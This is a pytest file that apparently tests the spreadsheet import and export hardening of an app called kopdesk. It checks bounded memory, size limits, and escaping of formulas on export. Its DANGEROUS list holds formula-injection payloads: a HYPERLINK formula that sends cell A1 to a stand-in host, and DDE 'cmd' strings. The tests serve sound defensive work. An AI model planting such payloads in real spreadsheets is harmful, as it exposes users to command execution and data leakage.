"""Reading the treasurer's spreadsheets safely and writing text that stays text.

Every file a user gives kopdesk may be hostile: corrupt, truncated, huge once
unpacked, in an odd encoding, or declaring the whole Excel grid. Each is refused
with one Indonesian line, in bounded memory; exports never write a formula.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kopdesk.errors import KopdeskError
from kopdesk.services.imports.sheets import Cell, read_sheet, write_csv, write_xlsx
from tests import hostile

INDONESIAN = ("berkas", "baris", "kolom", "sel")


def refusal(path: Path) -> str:
    with pytest.raises(KopdeskError) as caught:
        read_sheet(path, hostile.HEADER)
    return caught.value.message


@pytest.mark.parametrize("build", hostile.UNREADABLE.values(), ids=hostile.UNREADABLE.keys())
def test_a_hostile_file_is_refused_in_one_indonesian_line(
    build: Callable[[Path], Path], tmp_path: Path
) -> None:
    path = build(tmp_path)
    message = refusal(path)
    assert "\n" not in message
    assert path.name in message
    assert any(word in message.lower() for word in INDONESIAN)


BOUNDED = """
import resource, sys
from pathlib import Path
limit = int(sys.argv[1])
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
from kopdesk.errors import KopdeskError
from kopdesk.services.imports.sheets import read_sheet
for name in sys.argv[2:]:
    try:
        read_sheet(Path(name), ["No. Anggota", "Nama Lengkap"])
    except KopdeskError:
        pass
print("ok")
"""


def test_hostile_workbooks_are_read_in_bounded_memory(tmp_path: Path) -> None:
    """The adversarial run saw 85 → 612 MB in 80 s on a 4.7 KB file declaring
    A1:XFD1048576; here the reader runs with at most 384 MiB of address space."""
    files = [
        hostile.declared_whole_sheet_xlsx(tmp_path),
        hostile.huge_shared_string_xlsx(tmp_path),
        hostile.billion_laughs_xlsx(tmp_path),
        hostile.endless_row_csv(tmp_path),
    ]
    done = subprocess.run(
        [sys.executable, "-c", BOUNDED, str(384 * 2**20), *map(str, files)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert (done.returncode, done.stdout.strip()) == (0, "ok"), done.stderr[-2000:]


def test_a_declared_dimension_is_not_trusted(tmp_path: Path) -> None:
    sheet = read_sheet(hostile.declared_dimension_only_xlsx(tmp_path), hostile.HEADER)
    assert sheet.headers == hostile.HEADER
    assert sheet.rows == ((2, hostile.ROW),)


def test_excel_unicode_text_utf16_is_read(tmp_path: Path) -> None:
    sheet = read_sheet(hostile.utf16_csv(tmp_path), hostile.HEADER)
    assert sheet.headers == hostile.HEADER
    assert sheet.rows == ((2, hostile.ROW),)


def _csv(tmp_path: Path, rows: list[list[str]], name: str = "data.csv") -> Path:
    path = tmp_path / name
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _xlsx(tmp_path: Path, rows: Sequence[Sequence[object]], name: str = "data.xlsx") -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    path = tmp_path / name
    book.save(path)
    return path


def test_control_characters_are_stripped_from_cells(tmp_path: Path) -> None:
    """A NUL stored from a CSV later broke the .xlsx export; tabs and line breaks stay."""
    rows = [
        list(hostile.HEADER),
        ["A-0001", "Siti\x00 Ami\x1bnah\x7f", "3273\x0c015504900002", "x"],
    ]
    sheet = read_sheet(_csv(tmp_path, rows), hostile.HEADER)
    assert sheet.rows[0][1][1:3] == ("Siti Aminah", "3273015504900002")
    book_rows: list[list[object]] = [list(hostile.HEADER), ["A-0001", "Siti\tAminah\nBandung"]]
    sheet = read_sheet(_xlsx(tmp_path, book_rows), hostile.HEADER)
    assert sheet.rows[0][1][1] == "Siti\tAminah\nBandung"


def test_a_csv_cell_escaped_with_an_apostrophe_reads_back_as_typed(tmp_path: Path) -> None:
    rows = [list(hostile.HEADER), ["A-0001", "'=1+2", "'+62 812-3456", "'-1500"]]
    sheet = read_sheet(_csv(tmp_path, rows), hostile.HEADER)
    assert sheet.rows[0][1] == ("A-0001", "=1+2", "+62 812-3456", "'-1500")


def test_more_than_fifty_thousand_rows_are_refused(tmp_path: Path) -> None:
    rows = [list(hostile.HEADER)] + [["A", "B", "C", "D"]] * 50_000
    message = refusal(_csv(tmp_path, rows))
    assert "50.000" in message
    assert read_sheet(_csv(tmp_path, rows[:-1], "ok.csv"), hostile.HEADER).rows[-1][0] == 50_000


def test_more_than_a_hundred_columns_are_refused(tmp_path: Path) -> None:
    rows: list[list[object]] = [[*hostile.HEADER, *([None] * 96), "x"]]
    message = refusal(_xlsx(tmp_path, rows))
    assert "100 kolom" in message
    assert "CW" in message  # column 101
    widest = [[*hostile.HEADER, *([None] * 95), "x"]]
    assert len(read_sheet(_xlsx(tmp_path, widest, "ok.xlsx")).headers) == 100


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_cell_over_a_thousand_characters_is_refused_naming_it(
    suffix: str, tmp_path: Path
) -> None:
    rows = [list(hostile.HEADER), ["A-0001", "x" * 1_000, "3273015504900002", "y" * 1_001]]
    path = _csv(tmp_path, rows) if suffix == ".csv" else _xlsx(tmp_path, rows)
    message = refusal(path)
    assert "Baris 2, kolom D" in message
    assert "1.000 karakter" in message


def test_a_huge_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "besar.csv"
    with path.open("wb") as out:
        out.write(b"No. Anggota,Nama Lengkap\n")
        out.write(b"\n" * (21 * 1024 * 1024))
    assert "20 MB" in refusal(path)


# --- writing ----------------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")',
    "+62 812-3456-7890",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_xlsx_export_writes_text_as_text_and_numbers_as_numbers() -> None:
    data = write_xlsx(["Nama", "Jumlah"], [[text, -1_500] for text in DANGEROUS], title="Uji")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2))
    # XML reads a carriage return back as a line feed
    assert [row[0].value for row in cells] == [t.replace("\r", "\n") for t in DANGEROUS]
    assert {row[0].data_type for row in cells} == {"s"}
    assert all(row[0].quotePrefix for row in cells)
    assert [(row[1].value, row[1].data_type) for row in cells] == [(-1_500, "n")] * len(cells)


def test_xlsx_export_drops_characters_a_workbook_cannot_hold() -> None:
    data = write_xlsx(["Nama"], [["Siti\x00Aminah\x08"]], title="Uji")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet["A2"].value == "SitiAminah"


def test_csv_export_escapes_formulas_with_an_apostrophe() -> None:
    rows: list[list[Cell]] = [[text, -1_500, "-1.500", "Siti Aminah"] for text in DANGEROUS]
    data = write_csv(["Nama", "Jumlah", "Teks", "Biasa"], rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(data, newline="")))[1:]
    assert [row[0] for row in read] == ["'" + text.replace("\r", "\n") for text in DANGEROUS]
    assert {tuple(row[1:]) for row in read} == {("-1500", "-1.500", "Siti Aminah")}
